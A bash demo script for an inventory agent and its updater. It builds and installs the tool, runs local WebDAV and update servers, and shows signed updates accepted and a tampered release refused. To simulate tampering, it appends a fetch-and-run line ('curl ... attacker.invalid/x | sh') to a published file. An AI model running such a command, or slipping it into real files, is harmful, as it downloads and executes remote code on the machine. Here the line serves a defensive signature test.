#!/bin/bash
# The main job, end to end on this machine: build, install into a scratch
# installation folder, start a WebDAV spool server and an update server on
# 127.0.0.1, run the collection script and the agent, show what the server
# received, then publish a new module version and run the updater against it;
# last, turn signed updates on, install a signed release and show a tampered
# one refused.
# Stops its servers when it ends; can be run again.
set -euo pipefail
top=$(cd "$(dirname "$0")/.." && pwd)
cd "$top"
scripts/setup.sh

build=${KX_BUILD_DIR:-build}
demo=$top/out/demo
inst=$demo/install
say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

stop_servers() {
    for pidfile in "$demo"/*.pid; do
        [ -f "$pidfile" ] || continue
        kill "$(cat "$pidfile")" 2>/dev/null || true
        rm -f "$pidfile"
    done
}
free_port() {
    python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'
}
wait_for() { # url
    for _ in $(seq 50); do
        curl -s -o /dev/null "$1" && return 0
        sleep 0.1
    done
    echo "server at $1 did not start" >&2; return 1
}

say "Building"
cmake -S . -B "$build" -G Ninja >/dev/null
cmake --build "$build" -j "$(nproc)" | tail -n 1

stop_servers
rm -rf "$demo"
mkdir -p "$demo"
trap stop_servers EXIT

say "Installing into $inst"
cmake --install "$build" --prefix "$inst" >/dev/null
ls -l "$inst"

say "Starting the WebDAV spool server and the update server on 127.0.0.1"
dav_port=$(free_port)
password=$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
mkdir -p "$demo/dav/SPOOL/agent/decryptdata"
printf 'agent:%s\n' "$password" > "$demo/dav.users"
cat > "$demo/dav.conf" <<CONF
server.modules = ("mod_webdav", "mod_auth", "mod_authn_file")
server.document-root = "$demo/dav"
server.bind = "127.0.0.1"
server.port = $dav_port
server.errorlog = "$demo/dav.error.log"
webdav.activate = "enable"
auth.backend = "plain"
auth.backend.plain.userfile = "$demo/dav.users"
auth.require = ("/SPOOL" => ("method" => "basic", "realm" => "KX", "require" => "valid-user"))
CONF
/usr/sbin/lighttpd -D -f "$demo/dav.conf" & echo $! > "$demo/dav.pid"
upd_port=$(free_port)
mkdir -p "$demo/update/update/modules"
python3 scripts/demo/update_server.py "$upd_port" "$demo/update" 2>"$demo/update.log" &
echo $! > "$demo/update.pid"
wait_for "http://127.0.0.1:$dav_port/"
wait_for "http://127.0.0.1:$upd_port/"
echo "WebDAV  http://127.0.0.1:$dav_port/SPOOL/  (user agent)"
echo "update  http://127.0.0.1:$upd_port/update/"

cat > "$inst/config.ini" <<CONF
<?xml version="1.0" encoding="UTF-8"?>
<KXInventory>
  <Config>
    <Server>127.0.0.1</Server>
    <Port>$dav_port</Port>
    <SSL>0</SSL>
    <Username>agent</Username>
    <Password>$password</Password>
    <HostID>7</HostID>
  </Config>
</KXInventory>
CONF
chmod 600 "$inst/config.ini"

say "Agent run (collection script, both inventories, upload)"
# The WebDAV server and the update server share config.ini's Server and
# Port in a real installation; here the updater gets its own port below.
(cd "$inst" && ./KX_InventoryAGT run)

say "What the WebDAV server received"
ls -l "$demo/dav/SPOOL/agent/decryptdata"
for f in "$demo"/dav/SPOOL/agent/decryptdata/KX-*.dat; do
    echo
    "$inst/kxdump" "$f" | python3 scripts/demo/summary.py
done
echo
echo "left in the installation folder after the run:"
ls "$inst" "$inst/log"

say "Publishing a new module version on the update server"
modules="$demo/update/update/modules"
cp "$inst/macInventory.sh" "$modules/macInventory.sh"
printf '# module version published %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" >> "$modules/macInventory.sh"
printf 'KX Inventory release notes\n' > "$modules/NOTES.txt"
"$inst/kxpublish" -d NOTES.txt=docs "$modules" "$demo/update/update/list.txt" "$demo/update/update/list.md5"
cat "$demo/update/update/list.txt"
# The updater reaches the update server through config.ini's Server/Port.
sed -i "s|<Port>$dav_port</Port>|<Port>$upd_port</Port>|" "$inst/config.ini"
cat > "$inst/update.ini" <<CONF
<?xml version="1.0" encoding="UTF-8"?>
<KXUpdater>
  <Update>
    <List>/update/list.txt</List>
    <ListHash>/update/list.md5</ListHash>
    <Modules>/update/modules</Modules>
    <Complete>/update/complete</Complete>
    <Log>/update/log</Log>
  </Update>
  <Start>
    <Command1>date '+restarted %H:%M:%S' &gt; "[EXEPATH]/log/restarted.txt"</Command1>
  </Start>
</KXUpdater>
CONF

say "Updater run"
(cd "$inst" && ./KX_Updater run)
echo
cat "$inst"/updatelog/kxupd_*.log

say "What was replaced"
echo "backups:"; ls -l "$inst/backup"
echo "new file:"; ls -l "$inst/docs"
echo "start command:"; cat "$inst/log/restarted.txt"
echo "installed macInventory.sh now ends with:"; tail -n 1 "$inst/macInventory.sh"
echo "log uploaded to the update server:"; ls -l "$demo/update/received"

say "Signed updates: a key pair, update.pub installed, a signed release"
keys=$demo/keys
mkdir -p "$keys"
openssl genpkey -algorithm ed25519 -out "$keys/release.pem"
chmod 600 "$keys/release.pem"
openssl pkey -in "$keys/release.pem" -pubout -out "$inst/update.pub"
sed -i 's|<Log>/update/log</Log>|&\n    <Manifest>/update/manifest.txt</Manifest>|' "$inst/update.ini"
expires=$(date -u -d '+30 days' '+%Y-%m-%dT%H:%M:%SZ')
publish_signed() { # version
    "$inst/kxpublish" --key "$keys/release.pem" --version "$1" --expires "$expires" \
        --manifest "$demo/update/update/manifest.txt" -d NOTES.txt=docs \
        "$modules" "$demo/update/update/list.txt" "$demo/update/update/list.md5"
}
updater_run() { # shows only this run's log lines
    local seen
    seen=$(cat "$inst"/updatelog/kxupd_*.log | wc -l)
    (cd "$inst" && ./KX_Updater run)
    echo
    cat "$inst"/updatelog/kxupd_*.log | tail -n +"$((seen + 1))"
}
# (NOTES.txt: a file replaced twice within one minute would meet its own
# backup of that minute.)
printf 'signed release 1\n' >> "$modules/NOTES.txt"
publish_signed 1
echo "manifest.txt:"; cat "$demo/update/update/manifest.txt"
updater_run
echo; echo "accepted so far:"; cat "$inst/update.state"

say "A tampered release is refused"
printf 'signed release 2\n' >> "$modules/NOTES.txt"
publish_signed 2
before=$(sha256sum < "$inst/docs/NOTES.txt")
# Someone between the server and the machine appends a line after signing.
printf 'curl -s http://attacker.invalid/x | sh\n' >> "$modules/NOTES.txt"
updater_run
after=$(sha256sum < "$inst/docs/NOTES.txt")
echo
if [ "$before" = "$after" ]; then
    echo "installed docs/NOTES.txt unchanged; it still ends with:"
else
    echo "installed docs/NOTES.txt CHANGED (this is a fault):"
fi
tail -n 1 "$inst/docs/NOTES.txt"

say "Done; servers stopped. Everything is under $demo"
